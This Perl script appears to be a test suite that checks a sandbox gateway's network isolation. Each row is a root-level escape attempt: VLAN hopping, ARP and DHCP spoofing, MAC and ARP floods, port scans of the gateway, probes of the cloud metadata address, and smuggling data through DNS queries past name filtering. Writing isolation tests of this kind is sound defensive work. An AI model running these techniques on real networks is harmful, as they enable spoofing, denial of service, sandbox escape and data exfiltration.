# Attempts of root in a pixel behind a gateway, and the same from a plain network
# without a gateway. The second argument of a row is 1 if the attempt must
# succeed there: this proves that the attempt works.

# Ethernet
row('802.1Q frame', 1, sub { everywhere(0x8100, pack('nn', 1, 0x800) . udp4($D, 999)) });
row('802.1Q priority frame', 1, sub { everywhere(0x8100, pack('nn', 0xe000, 0x800) . udp4($_, 999)) for $D, $N });
row('802.1ad frame in another', 1, sub { everywhere(0x88a8, pack('nnnn', 1, 0x8100, 2, 0x800) . udp4($D, 999)) });
row('spanning tree root claim', 1, sub {
    my $bpdu = pack('H*', '424203' . '0000000000') . pack('n', 0) . mac($MM) . pack('N', 0) . pack('n', 0) . mac($MM) . "\x80\1\0\0\x14\0\2\0\x0f\0";
    out(mac('01:80:c2:00:00:00') . mac($MM) . pack('n', length $bpdu) . $bpdu . $M);
});
row('LLDP, EAPOL and LACP frames', 1, sub {
    for (['0e', 0x88cc], ['03', 0x888e], ['02', 0x8809], ['21', 0x88f5]) {
        out(eth("01:80:c2:00:00:$_->[0]", $_->[1], $M), 'eth0');
    }
});
row('experimental frame type', 1, sub { everywhere(0x88b5, $M) });
row('MPLS label around IP', 1, sub { everywhere(0x8847, pack('N', 0x103ff) . udp4($D, 999)) });
row('PPPoE session around IP', 1, sub { everywhere(0x8864, "\x11\0\0\1" . pack('nn', 2 + length udp4($D, 999), 0x21) . udp4($D, 999)) });
row('802.3 frames with SNAP header', 1, sub {
    my $snap = "\xaa\xaa\3\0\0\0\x08\0" . udp4($D, 999);
    out(mac($_) . mac($MM) . pack('n', length $snap) . $snap . "\0" x 20) for $GM, $NM, $BROADCAST;
});
row('RARP and inverse ARP', 1, sub {
    for ([0x8035, 3], [0x806, 8]) {
        everywhere($_->[0], pack('nnCCn', 1, 0x800, 6, 4, $_->[1]) . mac($MM) . inet_aton($ME) . mac($NM) . inet_aton($N) . $M);
    }
});
row('ARP request for other addresses', 1, sub {
    for my $wanted ($N, $D, split / /, $HOSTS) {
        my $answer = sniff(1, sub {
            out(eth($BROADCAST, 0x806, pack('nnCCn', 1, 0x800, 6, 4, 1) . mac($MM) . inet_aton($ME) . "\0" x 6 . inet_aton($wanted)));
        }, sub { substr($_[0], 12, 10) eq pack('nnnCCn', 0x806, 1, 0x800, 6, 4, 2) && substr $_[0], 22, 6 });
        in("$wanted is at " . unpack 'H*', $answer) if $answer && $answer ne mac($GM);
    }
});
row('unicast to the neighbor', 1, sub { out(eth($NM, 0x800, udp4($N, 999))) });
row('broadcast frame with unicast address', 1, sub { out(eth($BROADCAST, 0x800, udp4($N, 999))) });
row('multicast frame with unicast address', 1, sub { out(eth('01:00:5e:00:00:01', 0x800, udp4($N, 999))) });
row('multicast and broadcast names', 1, sub {
    out(eth('01:00:5e:00:00:fb', 0x800, udp4('224.0.0.251', 5353)));
    out(eth('01:00:5e:00:00:fc', 0x800, udp4('224.0.0.252', 5355)));
    out(eth('01:00:5e:7f:ff:fa', 0x800, udp4('239.255.255.250', 1900)));
    out(eth($BROADCAST, 0x800, udp4('255.255.255.255', 138)));
});
row('IGMP query and report', 1, sub {
    out(eth('01:00:5e:00:00:01', 0x800, ip($ME, '224.0.0.1', 2, icmp($_, 100, "\0" x 4 . $M), opt => "\x94\4\0\0"))) for 0x11, 0x16;
});
row('directed broadcasts by the gateway', 0, sub {
    routed(udp4($_, $PORT)) for map { s/\d+$/255/r } $ME, $UP, $D, split / /, $HOSTS;
    routed(udp4($D =~ s/\d+$/63/r, $PORT));
});
row('multicast destination by the gateway', 0, sub { routed(udp4($_, 999)) for '224.0.0.1', '224.0.0.251', '239.1.1.1' });

# Partial checksums and segmentation offload of a packet socket
sub offload {
    my ($frame, $flags, $type, $head, $size, $start, $offset) = @_;
    my $s = packet();
    setsockopt $s, 263, 15, pack 'i', 1 or die "offload: $!";
    my $to = device('eth0');
    defined send $s, pack('CCSSSS', $flags, $type, $head, $size, $start, $offset) . $frame, 0, $to or print "send: $!\n";
}
# The kernel of the machine that sends the frame without offload writes the sum
# of all bytes after the start into the given place. The sum is chosen "AB".
sub replaced {
    my ($offset, $from) = @_;
    my $frame = sub { eth($GM, 0x800, ip($ME, $A, 17, udp($from, 80, 'sum' x 12 . pack 'n', $_[0]), id => 7)) };
    my $sum = ~sum(substr $frame->(0), 20) & 0xffff;
    ask(query('allowed.test'));
    offload($frame->((0xbebd - $sum) % 0xffff), 1, 0, 0, 0, 20, $offset);
}
row('checksum offload that replaces the UDP port', 1, sub {
    print 'LOOK ', unpack('H*', 'AB' . pack('n', 46) . "\0\0sumsum"), "\n";
    replaced(16, 4010);
});
row('checksum offload that replaces the address', 1, sub {
    print 'LOOK ', unpack('H*', 'ABCD' . pack('nn', 80, 46)), "\n";
    replaced(12, 0x4344);
});
row('offloaded segments', 1, sub {
    my $data = $M x 200;
    offload(eth($GM, 0x800, ip($ME, $D, 17, udp(4000, 999, $data))), 1, $_, 42, 500, 34, 6) for 3, 5;
    offload(eth($GM, 0x800, ip($ME, $D, 6, tcp(4000, 999, 16, $data))), 1, 1, 54, 500, 34, 16);
});

# IP
row('source routes', 0, sub {
    for my $kind (0x83, 0x89) {
        my $opt = pack('CCC', $kind, 11, 4) . inet_aton($D) . inet_aton($D);
        routed(udp4($_, 999, opt => $opt)) for $GW, $D, $N;
    }
});
row('record route and router alert', 1, sub {
    routed(udp4($D, 999, opt => "\x94\4\0\0"));
    routed(udp4($D, 999, opt => "\7\7\4" . "\0" x 5));
});
row('fragments', 1, sub {
    routed(ip($ME, $D, 17, $M . 'x' x 40, frag => 3, id => 5));
    routed(ip($ME, $A, 17, udp(4000, 80, 'x' x 24), frag => 0x2000, id => 6));
    routed(ip($ME, $D, 17, udp(4000, 999, $M), frag => 0x2000, id => 7));
    routed(ip($ME, $D, 17, $M . 'x' x 40, frag => 1, id => 7));
    my $whole = tcp(4000, 22, 2, '', dst => $A) . $M;
    routed(ip($ME, $A, 6, substr(tcp(4000, 80, 2, '', dst => $A), 0, 8), frag => 0x2000, id => 8));
    routed(ip($ME, $A, 6, $whole, frag => 0, id => 8));
    routed(ip($ME, $A, 6, substr($whole, 8), frag => 1, id => 8));
});
row('encapsulations', 1, sub {
    for my $protocol (4, 41, 47, 50, 51, 55, 94, 97, 103, 112, 115, 132, 136, 139, 255) {
        my $head = $protocol == 47 ? "\0\0\x08\0" : '';
        routed(ip($ME, $_, $protocol, $head . udp4($D, 999))) for $D, $A;
    }
});
row('time exceeded from beyond the gateway', 1, sub {
    my $from = sniff(2, sub { routed(udp4($D, 33434, ttl => $_)) for 1 .. 4 }, sub {
        my @f = unpack 'x12 n x9 C x2 a4 x4 C', $_[0];
        $f[0] == 0x800 && $f[1] == 1 && $f[3] == 11 && ($CONTROL || inet_ntoa($f[2]) ne $GW) && inet_ntoa $f[2];
    });
    in($from) if $from;
});
row('other source addresses', 1, sub {
    routed(udp4($D, 999, src => $_)) for '0.0.0.0', '127.0.0.1', '255.255.255.255', $GW, $UP, $A, $R, '224.0.0.1', '10.9.9.9', '192.0.2.9', $ME =~ s/\d+$/255/r, $ME =~ s/\d+$/0/r;
});
row('loopback of the gateway', 0, sub {
    for my $to ('127.0.0.1', '127.0.0.53', '0.0.0.0') {
        my $open = sniff(1, sub { routed(ip($ME, $to, 6, tcp(4001, $_, 2, '', dst => $to))) for 22, 80, 5355 },
            sub { my @f = unpack 'x12 n x9 C x12 n x9 C', $_[0]; $f[0] == 0x800 && $f[1] == 6 && $f[2] == 4001 && ($f[3] & 18) == 18 });
        in("$to answers") if $open;
    }
});
row('TCP ports of the gateway', 0, sub {
    for my $to ($GW, $UP) {
        my %open;
        sniff(2, sub { routed(ip($ME, $to, 6, tcp(4002, $_, 2, '', dst => $to))) for 1 .. 1024, 2375, 5000, 8080, 8443, 9000 }, sub {
            my @f = unpack 'x12 n x9 C x10 n n x9 C', $_[0];
            $open{$f[2]} = 1 if $f[0] == 0x800 && $f[1] == 6 && $f[3] == 4002 && ($f[4] & 18) == 18;
            0;
        });
        delete $open{53};
        in("$to open: @{[%open]}") if %open;
    }
});
row('UDP services of the gateway', 0, sub {
    for my $to ($GW, $UP) {
        my @kids;
        for my $port (69, 111, 123, 137, 161, 500, 1900, 4789, 5351, 5353) {
            if (!fork) {
                my $answer = datagram($to, $port, $port == 5351 ? "\0\0" : $M);
                in("$to:$port answers") if defined $answer;
                exit;
            }
        }
        1 while wait > 0;
    }
});
row('addresses of the host', 1, sub {
    for my $to (split / /, $HOSTS) {
        next if fork;
        datagram($to, $PORT, $M, quiet => 1);
        for my $port ($PORT, 8443, 22, 53) {
            my $answer = connects($to, $port);
            in("$to:$port") if defined $answer && $port != 22 && $port != 53;
        }
        exit;
    }
    1 while wait > 0;
});
row('metadata address', 1, sub {
    my $answer = connects('169.254.169.254', 80);
    in($answer) if ($answer // '') =~ /hello/;
});
row('malformed headers', 1, sub {
    routed(udp4($D, 999, sum => 1));
    routed(udp4($D, 999, ihl => 0x4f));
    routed(udp4($D, 999, ihl => 0x44));
    routed(udp4($D, 999, length => 21));
    routed(udp4($D, 999, length => 2000));
    routed(udp4($D, 999, ihl => 0x65));
    out(eth($GM, 0x86dd, udp4($D, 999)));
    out(eth($GM, 0x800, udp4($D, 999) . $M));
    routed(udp4($D, 999, frag => 0x8000));
    routed(udp4($D, 999, frag => 0x4000, ttl => 255));
});

# TCP, UDP, ICMP
row('TCP flags', 1, sub { routed(ip($ME, $D, 6, tcp(4003, 80, $_, $M))) for 0, 1, 2, 3, 4, 16, 17, 18, 20, 24, 41, 63, 0xc2 });
row('data in the first segment', 1, sub {
    routed(ip($ME, $D, 6, tcp(4004, 80, 2, $M)));
    socket my $s, AF_INET, SOCK_STREAM, 0;
    send $s, $M, 0x20000000, sockaddr_in(443, inet_aton($D));
});
row('data of an unknown flow', 1, sub {
    ask(query('allowed.test'));
    routed(ip($ME, $A, 6, tcp(4005, $_, 24, $M, dst => $A, ack => 1))) for 22, 443 });
# An open connection to the allowed port from a source port.
sub allowed_flow {
    my ($port) = @_;
    socket my $s, AF_INET, SOCK_STREAM, 0;
    setsockopt $s, SOL_SOCKET, SO_SNDTIMEO, pack 'qq', 1, 0;
    bind $s, sockaddr_in($port, INADDR_ANY);
    ask(query('allowed.test'));
    connect $s, sockaddr_in(80, inet_aton($A)) or die "no flow: $!";
    return $s;
}
row('source port of an open flow', 1, sub {
    my $flow = allowed_flow(4006);
    for my $flags (2, 16, 24) {
        routed(ip($ME, $D, 6, tcp(4006, 80, $flags, $M)));
        routed(ip($ME, $A, 6, tcp(4006, $_, $flags, $M, dst => $A))) for 22, 443, 8080;
        routed(ip($ME, $D, 6, tcp(80, 4006, $flags, $M)));
    }
});
row('ICMP errors that quote an open flow', 1, sub {
    my $flow = allowed_flow(4007);
    for my $quote (ip($ME, $A, 6, tcp(4007, 80, 16, '', dst => $A)), ip($A, $ME, 6, tcp(80, 4007, 16, '', src => $A, dst => $ME))) {
        for my $kind ([3, 1], [3, 4], [11, 0], [12, 0], [4, 0], [5, 1]) {
            routed(ip($ME, $D, 1, icmp(@$kind, "\0" x 4 . $quote . $M)));
        }
    }
});
row('ICMP messages', 1, sub {
    routed(ip($ME, $D, 1, icmp($_, 0, "\0\1\0\1" . $M))) for 0, 8, 13, 14, 15, 17, 9, 10, 42;
    routed(ip($ME, $A, 1, icmp($_, 0, "\0\1\0\1" . $M))) for 0, 8, 13;
});
row('ICMP redirect in the name of the gateway', 1, sub {
    out(eth($_, 0x800, ip($GW, $N, 1, icmp(5, 1, inet_aton($ME) . udp4($D, 999, src => $N))), $GM)) for $NM, $BROADCAST;
});
row('source ports of services', 1, sub { routed(udp4($_, 999, from => $_)) for 1; routed(udp4($D, $_, from => $_)) for 53, 67, 68, 123, 500, 4500 });
row('FTP server that names another host', 1, sub {
    my $reply = connects($ALL, 21, send => 'x') // '';
    my $port = $reply =~ /,(\d+),(\d+)\)/ ? $1 * 256 + $2 : 22;
    my $answer = connects($D, $port);
    in($answer) if ($answer // '') =~ /hello/;
    connects($ALL, 21, send => 'PORT ' . join(',', split(/\./, $D), 0, 80) . "\r\n");
    $answer = connects($D, 80);
    in($answer) if ($answer // '') =~ /hello/;
});
row('helper payloads of SIP, IRC and TFTP', 1, sub {
    my $ip = unpack 'N', inet_aton($D);
    datagram($ALL, 5060, "INVITE sip:x\@$D SIP/2.0\r\nVia: SIP/2.0/UDP $ME:5060\r\nContact: <sip:x\@$D:999>\r\nContent-Type: application/sdp\r\nContent-Length: 60\r\n\r\nv=0\r\nc=IN IP4 $D\r\nm=audio 999 RTP/AVP 0\r\n", from => 5060, quiet => 1);
    connects($ALL, 6667, send => "PRIVMSG x :\1DCC SEND f $ip 80\1\r\n");
    datagram($ALL, 69, "\0\1x\0octet\0", quiet => 1);
    datagram($D, 999, $M, quiet => 1);
    my $answer = connects($D, 80);
    in($answer) if ($answer // '') =~ /hello/;
});

# DHCP
row('relay address of another host', 1, sub {
    for my $type (1, 3, 8) {
        datagram($GW, 67, dhcp($type, relay => $_, client => $ME, options => "\x3d\x0a" . substr("$M" . 'x' x 10, 0, 10)), from => 67, quiet => 1) for $D, $N, $UP;
        routed(ip($D, $GW, 17, udp(67, 67, dhcp($type, relay => $D))));
    }
});
row('false DHCP offer to the neighbor', 1, sub {
    for my $type (2, 5) {
        my $data = dhcp($type, op => 2, your => $N, mac => $NM, options => "\3\4" . inet_aton($ME));
        out(eth($_, 0x800, ip($_[0] // $GW, '255.255.255.255', 17, udp(67, 68, $data)))) for $NM, $BROADCAST;
    }
});
row('address of the neighbor by DHCP', 1, sub {
    my $offer = sniff(2, sub {
        for my $o ({ mac => $NM }, { options => "\x3d\7\1" . mac($NM) }, { options => "\x32\4" . inet_aton($N) }) {
            out(eth($BROADCAST, 0x800, ip('0.0.0.0', '255.255.255.255', 17, udp(68, 67, dhcp($_, %$o))))) for 1, 3;
            out(eth($BROADCAST, 0x800, ip('0.0.0.0', '255.255.255.255', 17, udp(68, 67, dhcp(1, %$o))), $NM));
        }
    }, sub { my @f = unpack 'x12 n x20 nn x4 x16 a4', $_[0]; $f[0] == 0x800 && $f[1] == 67 && $f[3] && inet_ntoa($f[3]) eq $N });
    in('was offered the address of the neighbor') if $offer;
});

# DNS
row('denied name in many forms', 1, sub {
    for my $type (1, 28, 16, 255, 2, 12, 65, 33, 252) { datagram($_, 53, query("$M.denied.test", $type), quiet => 1) for $GW, $R }
    datagram($_, 53, query(uc("$M.DENIED.test")), quiet => 1) for $GW, $R;
    datagram($_, 53, query("$M.xallowed.test"), quiet => 1) for $GW, $R;
    datagram($_, 53, query("allowed.test.$M.test"), quiet => 1) for $GW, $R;
    datagram($_, 53, query("$M.allowed.test"), quiet => 1) for $GW, $R;
});
row('labels with dots and zero bytes', 1, sub {
    for my $raw (labels("$M.allowed.test"), labels("$M.x.wild.test"), labels('allowed.test', $M), labels('allowed', "test\0$M"), labels("$M\0", 'allowed', 'test'), labels($M, 'denied', "test\0.wild.test"), labels("$M\\.wild", 'test')) {
        datagram($_, 53, query('', 1, raw => $raw), quiet => 1) for $GW, $R;
    }
});
row('second question', 1, sub {
    my $second = labels($M, 'denied', 'test') . pack 'nn', 1, 1;
    datagram($_, 53, query('allowed.test', 1, questions => 2, rest => $second), quiet => 1) for $GW, $R;
    datagram($_, 53, query('allowed.test', 1, rest => $second), quiet => 1) for $GW, $R;
    datagram($_, 53, query('x.wild.test', 1, rest => $second), quiet => 1) for $GW, $R;
});
row('compressed question', 1, sub {
    my $rest = labels($M, 'denied', 'test');
    datagram($_, 53, query('', 1, raw => "\xc0\x12", rest => $rest), quiet => 1) for $GW, $R;
    datagram($_, 53, query('', 1, raw => "\1x\xc0\x14", rest => $rest), quiet => 1) for $GW, $R;
    datagram($_, 53, query('', 1, raw => "\x41\x01" . $M), quiet => 1) for $GW, $R;
});
row('EDNS options in a query for an allowed name', 1, sub {
    for my $query (map { with_option($_) } 10, 3, 8, 12, 65001) {
        datagram($_, 53, $query, quiet => 1) for $GW, $R;
        connects($_, 53, send => pack('n/a', $query)) for $GW, $R;
    }
});
row('records in a query', 1, sub {
    for my $query (with_records()) {
        datagram($_, 53, $query, quiet => 1) for $GW, $R;
        connects($_, 53, send => pack('n/a', $query)) for $GW, $R;
    }
});
row('long queries for an allowed name', 1, sub {
    for my $bytes (400, 1100, 4000, 30_000, 65_000) {
        my $query = query('allowed.test', 1, rest => $M x ($bytes / length $M));
        datagram($_, 53, $query, quiet => 1) for $GW, $R;
        connects($_, 53, send => pack('n/a', $query)) for $GW, $R;
    }
});
row('operations other than a question', 1, sub {
    for my $op (1 .. 6) { datagram($_, 53, query("$M.wild2.test", 6, flags => $op << 11), quiet => 1) for $GW, $R }
});
row('addresses of the resolver in the class CHAOS', 0, sub {
    for my $name (qw(servers.bind auth.bind hostname.bind id.server)) {
        my $answer = ask(query($name, 16, class => 3));
        in("$name: $answer") if $answer =~ /\d+\.\d+\.\d+\.\d+/ || index($answer, `hostname` =~ s/\s//gr) > 0;
    }
});
row('names without a public parent', 1, sub {
    for my $name ($M, "$M.local", "$M.10.in-addr.arpa", "$M.8.e.f.ip6.arpa", "$M.home.arpa", "$M.onion", "$M.internal", "$M.test", "_$M._tcp.allowed.test") {
        for my $type (1, 12, 16) { datagram($_, 53, query($name, $type), quiet => 1) for $GW, $R }
    }
});
row('other payload on ports of resolvers', 1, sub {
    datagram($_, 53, "hello $M", quiet => 1) for $GW, $D;
    datagram($D, $_, $M, quiet => 1) for 853, 5353, 5355;
    connects($D, $_, send => "$M\n") for 53, 853;
    connects($D, 53, send => pack('n', length query("$M.wild2.test")) . query("$M.wild2.test"));
});
row('name answers to the neighbor', 1, sub {
    my $answer = query("$M.wild.test", 1, flags => 0x8580);
    out(eth($_, 0x800, ip($GW, $N, 17, udp(53, 5353, $answer)), $GM)) for $NM, $BROADCAST;
    out(eth($_, 0x800, ip($ME, $N, 17, udp(53, 5353, $answer)))) for $NM, $BROADCAST;
    datagram($_, 53, query("$M.wild2.test", 1, flags => 0x8580), quiet => 1) for $GW, $R;
});
for my $case (qw(host metadata neighbor gateway uplink loopback zero bridge mixed)) {
    row("allowed name of the $case address", 0, sub {
        my $answer = ask(query("$case.wild.test"));
        my @addresses = map { inet_ntoa($_) } $answer =~ /\xc0\x0c\x00\x01\x00\x01....\x00\x04(....)/sg;
        for my $to (grep { $_ ne $ENV{OTHER} } @addresses) {
            datagram($to, 443, $M, quiet => 1);
            my $got = connects($to, $_) // next for 443, 80, $PORT;
            in("$to: $got") if defined $got;
        }
    });
}

# IPv6
row('neighbor discovery and router advertisements', 1, sub {
    my $from = "\xfe\x80" . "\0" x 13 . "\x66";
    my $to = "\xff\2" . "\0" x 13 . "\1";
    for my $type (128, 130, 131, 133, 134, 135, 136, 137) {
        my $data = pack('CCn', $type, 0, 0) . "\0" x 20 . $M;
        $data = pack('CCn', $type, 0, sum($from . $to . pack('NN', length $data, 58) . $data)) . substr $data, 4;
        out(eth($_, 0x86dd, pack('NnCC', 6 << 28, length $data, 58, 255) . $from . $to . $data)) for '33:33:00:00:00:01', $NM, $GM;
    }
});
row('UDP over IPv6', 1, sub {
    my $from = "\xfe\x80" . "\0" x 13 . "\x66";
    for my $to ("\xff\2" . "\0" x 13 . "\1", "\xff\2\0\0\0\0\0\0\0\0\0\0\0\1\0\2", "\x20\1\x0d\xb8" . "\0" x 11 . "\1", "\0" x 10 . "\xff\xff" . inet_aton($D), "\0\x64\xff\x9b" . "\0" x 8 . inet_aton($D)) {
        for my $next (17, 0, 43, 44) {
            my $data = udp(546, 547, $M);
            $data = "\x11\0" . "\0" x 6 . $data if $next != 17;
            out(eth($_, 0x86dd, pack('NnCC', 6 << 28, length $data, $next, 64) . $from . $to . $data)) for '33:33:00:00:00:01', $NM, $GM;
        }
    }
});
row('IPv6 address and route of the pixel', 0, sub {
    system "sysctl -qw net.ipv6.conf.eth0.disable_ipv6=0; ip -6 addr add 2001:db8:7::2/64 dev eth0; ip -6 route add default dev eth0; ip -6 addr add fe80::66/64 dev eth0 2>/dev/null";
    my $a = pack('SnNa16N', 10, 999, 0, "\xff\2" . "\0" x 13 . "\1", 0);
    socket my $s, 10, SOCK_DGRAM, 0;
    setsockopt $s, 41, 17, pack 'i', `cat /sys/class/net/eth0/ifindex`;
    for my $to ("\xff\2" . "\0" x 13 . "\1", "\x20\1\x0d\xb8" . "\0" x 11 . "\1") { send $s, $M, 0, pack('SnNa16N', 10, 999, 0, $to, `cat /sys/class/net/eth0/ifindex`) }
});

# Rows that change the interface or act as another machine, one after another
loud('source address of the gateway frame', 1, sub { out(eth($_, 0x88b6, $M, $GM)) for $NM, $BROADCAST });
loud('frame and address of the neighbor', 1, sub { routed(udp4($D, 999, src => $N), $NM) });
loud('address of the neighbor, own frame', 1, sub { routed(udp4($D, 999, src => $N)) });
loud('false ARP answers and requests', 1, sub {
    for my $op (1, 2) {
        for my $claimed ($GW, $N) {
            for my $hardware ($MM, '02:00:00:00:00:09') {
                everywhere(0x806, pack('nnCCn', 1, 0x800, 6, 4, $op) . mac($hardware) . inet_aton($claimed) . mac($NM) . inet_aton($N) . $M);
            }
        }
    }
});
loud('macvlan with another hardware address', 1, sub {
    system "ip link add mv0 link eth0 type macvlan mode private && ip link set mv0 address 02:00:00:00:00:07 up";
    out(eth($GM, 0x800, udp4($D, 999), '02:00:00:00:00:07'), 'mv0');
    out(eth($BROADCAST, 0x88b5, $M, '02:00:00:00:00:07'), 'mv0');
    system 'ip link del mv0';
});
loud('bridge in the pixel', 1, sub {
    system 'ip link add br9 type bridge && ip link add ve9 type veth peer name vf9 && ip link set ve9 master br9 && ip link set eth0 master br9 && ip link set br9 up && ip link set ve9 up && ip link set vf9 up';
    select undef, undef, undef, 0.3;
    my $from = `cat /sys/class/net/vf9/address` =~ s/\s//gr;
    out(eth($GM, 0x800, udp4($D, 999), $from), 'vf9');
    out(eth($BROADCAST, 0x88b5, $M, $from), 'vf9');
    system 'ip link set eth0 nomaster; ip link del br9; ip link del ve9';
});
loud('VXLAN to the neighbor', 1, sub {
    my $inner = "\x08\0\0\0\0\0\7\0" . eth($BROADCAST, 0x88b5, $M);
    out(eth($NM, 0x800, ip($ME, $N, 17, udp(4789, 4789, $inner))));
    routed(ip($ME, $_, 17, udp(4789, 4789, $inner))) for $N, $A, $D;
});
loud('large frames', 1, sub {
    system 'ip link set eth0 mtu 9000';
    routed(ip($ME, $D, 17, udp(4000, 999, $M . 'x' x 4000)));
    out(eth($_, 0x88b5, $M . 'x' x 4000)) for $NM, $BROADCAST;
    routed(udp4($D, 999));
    system 'ip link set eth0 mtu 1500';
});
loud('release and decline the address of the neighbor', 1, sub {
    for my $type (4, 7) {
        my $options = "\x32\4" . inet_aton($N) . "\x36\4" . inet_aton($GW);
        out(eth($BROADCAST, 0x800, ip('0.0.0.0', '255.255.255.255', 17, udp(68, 67, dhcp($type, mac => $NM, options => $options)))));
        routed(ip($N, $GW, 17, udp(68, 67, dhcp($type, mac => $NM, client => $N, options => $options))), $NM);
        datagram($GW, 67, dhcp($type, mac => $NM, client => $N, options => $options), from => 68, quiet => 1);
    }
});
loud('host names by DHCP', 1, sub {
    for my $name (qw(allowed.test wpad gateway localhost neighbor)) {
        my $options = "\x0c" . chr(length $name) . $name . "\x51" . chr(3 + length $name) . "\1\0\0" . $name . "\x32\4" . inet_aton($ME);
        out(eth($BROADCAST, 0x800, ip('0.0.0.0', '255.255.255.255', 17, udp(68, 67, dhcp($_, options => $options))))) for 1, 3;
    }
    for my $name (qw(wpad gateway localhost neighbor allowed.test)) { in("$name is me") if ask(query($name)) =~ /\Q@{[inet_aton($ME)]}/ }
});
loud('flood of hardware addresses', 1, sub {
    my $socket = packet();
    my $to = device('eth0');
    for my $i (1 .. 3000) { send $socket, eth($BROADCAST, 0x88b5, $M, sprintf '02:77:%02x:%02x:00:01', $i >> 8, $i & 255), 0, $to }
});
loud('ARP flood against the gateway', 0, sub {
    my $socket = packet();
    my $to = device('eth0');
    for my $i (1 .. 3000) {
        my $sender = inet_aton($ME) & "\xff\xff\xff\0" | pack 'N', $i & 255;
        $sender = pack 'N', 0x0a000000 + $i if $i > 255;
        send $socket, eth($GM, 0x806, pack('nnCCn', 1, 0x800, 6, 4, 1) . mac($MM) . $sender . "\0" x 6 . inet_aton($GW)), 0, $to;
    }
});
loud('malformed and large DNS', 0, sub {
    srand 7;
    for my $i (1 .. 500) {
        my $packet = query('allowed.test', int rand 300);
        substr($packet, rand length $packet, 1) = chr rand 256 for 1 .. 6;
        $packet .= join '', map { chr rand 256 } 1 .. rand 600 if $i % 2;
        datagram($GW, 53, $packet, quiet => 1);
    }
});
